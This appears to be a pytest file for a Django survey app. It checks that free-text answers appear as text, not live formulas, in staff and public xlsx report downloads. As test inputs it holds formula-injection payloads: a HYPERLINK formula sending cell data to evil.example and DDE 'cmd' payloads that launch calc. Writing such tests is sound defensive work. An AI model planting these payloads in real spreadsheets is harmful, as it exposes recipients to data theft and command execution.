"""A respondent's text is never a live formula in the report's workbook (issue 13, item 1)."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from kopiena.reports.models import PublishedReport
from tests.factories import UserFactory, municipality

from .reference import add_responses, reference_rows

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
OTHER = "+cmd|' /C calc'!A0"
GOOD_PRACTICE = "@SUM(1+1)*cmd|' /C calc'!A0"


def body(response) -> bytes:
    assert response.status_code == 200
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def cells_holding(workbook_bytes: bytes, text: str) -> list:
    workbook = load_workbook(io.BytesIO(workbook_bytes))
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == text
    ]


def assert_stored_as_text(workbook_bytes: bytes) -> None:
    for text in (HYPERLINK, OTHER, GOOD_PRACTICE):
        cells = cells_holding(workbook_bytes, text)
        assert cells, f"{text!r} is listed in the workbook"
        for cell in cells:
            assert cell.data_type == "s", f"{cell.parent.title}!{cell.coordinate} is a formula"


def test_answers_and_other_texts_are_text_in_the_staff_and_the_public_workbook(
    client, reference_survey
):
    row = reference_rows()[0] | {
        "long_term_factor": HYPERLINK,
        "support_received": "projektu_konkurss other",
        "support_received_other": OTHER,
        "good_practice": GOOD_PRACTICE,
    }
    add_responses(reference_survey, [row])
    client.force_login(UserFactory(staff_of=[municipality("kekavas_nov")]))

    staff = client.get(reverse("reports:download", args=[reference_survey.slug, "xlsx"]))
    assert_stored_as_text(body(staff))

    client.post(reverse("reports:publish", args=[reference_survey.slug]), {})
    published = PublishedReport.objects.get()
    client.post(reverse("reports:published_visibility", args=[published.uuid]), {"is_public": "on"})
    client.logout()
    public = client.get(reverse("reports:published_download", args=[published.uuid, "xlsx"]))
    assert_stored_as_text(body(public))
